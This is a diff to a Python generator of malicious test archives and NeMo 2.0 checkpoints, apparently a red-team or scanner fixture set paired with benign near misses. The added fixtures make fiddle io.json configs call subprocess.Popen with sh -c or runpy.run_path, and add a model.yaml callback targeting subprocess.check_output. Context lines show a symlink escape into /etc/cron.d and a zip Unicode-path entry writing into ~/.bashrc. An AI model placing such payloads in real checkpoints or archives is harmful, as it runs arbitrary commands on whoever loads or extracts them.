@@ -5,6 +5,7 @@ by the 7z tool (-snl keeps symbolic links) with placeholder names, then renamed 
 UTF-16LE, header and start-header CRCs recomputed), as the format's specification lays them out. Never load these.
 """
 import io
+import json
 import os
 import struct
 import subprocess
@@ -90,6 +91,15 @@ def attacks():
         "s25: LZMA2 7z archive with a symbolic link model/cache -> /etc, then a member model/cache/cron.d/pathfinder written through it")
     add("s25-zip-unicode-path-escape.zip", zip_unicode_path([("model/weights.pkl", STATE, None), ("model/notes.txt", CMD.encode() + b"\n", "../../../home/user/.bashrc")]),
         "s25: zip entry named model/notes.txt in its headers whose Info-ZIP Unicode Path extra field (0x7075) names ../../../home/user/.bashrc: unzip and 7-Zip extract to the extra field's name")
+    popen = _fiddle_config("popen_1", "subprocess", "Popen", {"args": ["sh", "-c", CMD]})
+    add("s25-nemo2-io-json-popen.tar", nemo2_checkpoint(nemo2_io_json((popen, {"callbacks": {"type": "ref", "key": "popen_1"}}))),
+        "s25: NeMo 2.0 checkpoint (tarred folder) whose context/io.json (fiddle JSON) holds a Config with fn_or_cls pyref subprocess.Popen: load_context's fdl.build calls it (fiddle's default pyref policy allows any non-C-builtin import)")
+    runpy = _fiddle_config("run_path_1", "runpy", "run_path", {"path_name": "/tmp/pathfinder-redteam.py"})
+    add("s25-nemo2-io-json-runpy.zip", zip_unicode_path([("ckpt/context/io.json", nemo2_io_json((runpy, {"extra": {"type": "ref", "key": "run_path_1"}})), None),
+                                                          ("ckpt/context/model.yaml", NEMO2_MODEL_YAML.encode(), None)]),
+        "s25: NeMo 2.0 checkpoint zipped, context/io.json building runpy.run_path through a fiddle Config")
+    add("s25-nemo2-model-yaml-target.tar", nemo2_checkpoint(nemo2_io_json(), NEMO2_MODEL_YAML + "callbacks:\n  - _target_: subprocess.check_output\n    args: [sh, -c, '" + CMD + "']\n"),
+        "s25: NeMo 2.0 checkpoint whose context/model.yaml adds a callback with _target_: subprocess.check_output")
     return out
 
 
@@ -100,4 +110,73 @@ def benign():
          "near miss: a 7z archive (written by the 7z tool with -snl) with symbolic links to siblings and a name starting with .."),
         ("bundle-zip-unicode-path.zip", zip_unicode_path([("model/weights.pkl", STATE, None), ("model/caf\xe9.txt", b"fine\n", "model/caf\xe9.txt")]),
          "near miss: a zip entry with an Info-ZIP Unicode Path extra field naming the same path as its header"),
+        ("bundle-nemo2-checkpoint.tar", nemo2_checkpoint(nemo2_io_json()),
+         "a NeMo 2.0 Llama checkpoint folder as a tarball: context/io.json in fiddle's JSON (pyrefs to nemo, fiddle, torch, builtins.tuple), context/model.yaml"),
     ]
+
+
+# ---- NeMo 2.0 checkpoint context (fiddle's JSON serialization, what nemo.lightning.io.load_context rebuilds) ----
+
+def _pyref(module, name):
+    return {"type": "pyref", "module": module, "name": name}
+
+
+def _fiddle_config(key, fn_module, fn_name, arguments):
+    """A fiddle Config object as serialization.dump_json writes it: its type, items and traverser metadata."""
+    meta = f"buildable_traverser_metadata_{key}"
+    return {
+        key: {
+            "type": _pyref("fiddle._src.config", "Config"),
+            "items": [[f"Attr(name='{k}')", v] for k, v in arguments.items()],
+            "metadata": {"type": "ref", "key": meta},
+            "paths": [f"<root>.{key}"],
+        },
+        meta: {
+            "type": _pyref("fiddle._src.config", "BuildableTraverserMetadata"),
+            "items": [["Attr(name='fn_or_cls')", _pyref(fn_module, fn_name)],
+                      ["Attr(name='argument_names')", {"type": _pyref("builtins", "tuple"), "items": [[f"Index(index={i})", k] for i, k in enumerate(arguments)], "metadata": None}],
+                      ["Attr(name='argument_history')", {"type": "ref", "key": "history_1"}]],
+            "metadata": {"type": _pyref("fiddle._src.config", "BuildableTraverserMetadata"), "items": [], "metadata": None},
+        },
+    }
+
+
+def nemo2_io_json(extra=None):
+    """context/io.json of a NeMo 2.0 Llama checkpoint: a TrainerContext whose model is LlamaModel(Llama32Config1B)."""
+    objects = {"history_1": {"type": _pyref("fiddle._src.history", "History"), "items": [], "metadata": None}}
+    objects.update(_fiddle_config("llama32_config1_b_1", "nemo.collections.llm.gpt.model.llama", "Llama32Config1B",
+                                  {"seq_length": 8192, "params_dtype": _pyref("torch", "bfloat16"),
+                                   "activation_func": _pyref("torch.nn.functional", "silu")}))
+    objects.update(_fiddle_config("auto_tokenizer_1", "nemo.collections.common.tokenizers.huggingface.auto_tokenizer", "AutoTokenizer",
+                                  {"pretrained_model_name": "meta-llama/Llama-3.2-1B"}))
+    objects.update(_fiddle_config("llama_model_1", "nemo.collections.llm.gpt.model.llama", "LlamaModel",
+                                  {"config": {"type": "ref", "key": "llama32_config1_b_1"}, "tokenizer": {"type": "ref", "key": "auto_tokenizer_1"}}))
+    context = {"model": {"type": "ref", "key": "llama_model_1"}}
+    if extra is not None:
+        objects.update(extra[0])
+        context.update(extra[1])
+    objects.update(_fiddle_config("trainer_context_1", "nemo.lightning.io.pl", "TrainerContext", context))
+    doc = {"root": {"type": "ref", "key": "trainer_context_1"}, "objects": objects,
+           "refcounts": {k: 1 for k in objects}, "version": "0.0.1"}
+    return json.dumps(doc).encode()
+
+
+NEMO2_MODEL_YAML = """\
+_target_: nemo.collections.llm.gpt.model.llama.LlamaModel
+config:
+  _target_: nemo.collections.llm.gpt.model.llama.Llama32Config1B
+  seq_length: 8192
+  params_dtype:
+    _call_: false
+    _target_: torch.bfloat16
+tokenizer:
+  _target_: nemo.collections.common.tokenizers.huggingface.auto_tokenizer.AutoTokenizer
+  pretrained_model_name: meta-llama/Llama-3.2-1B
+"""
+
+
+def nemo2_checkpoint(io_json, model_yaml=NEMO2_MODEL_YAML):
+    """A NeMo 2.0 checkpoint folder shared as a tarball: context/io.json, context/model.yaml, weights/metadata.json."""
+    from bundles import tar
+    return tar([("llama32-1b/context/io.json", io_json), ("llama32-1b/context/model.yaml", model_yaml.encode()),
+                ("llama32-1b/weights/metadata.json", b'{"sharded_backend": "torch_dist", "sharded_backend_version": 1}')])
